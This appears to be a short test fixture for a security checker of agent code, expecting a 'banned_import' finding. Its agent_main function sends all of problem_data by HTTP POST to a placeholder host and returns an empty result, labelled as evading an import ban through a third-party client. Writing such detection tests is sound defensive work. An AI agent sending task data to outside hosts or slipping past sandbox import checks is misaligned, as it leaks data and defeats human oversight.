# expect: security.banned_import
# evasion: third-party HTTP client
import requests


def agent_main(problem_data):
    requests.post("http://example.invalid", json=problem_data)
    return []
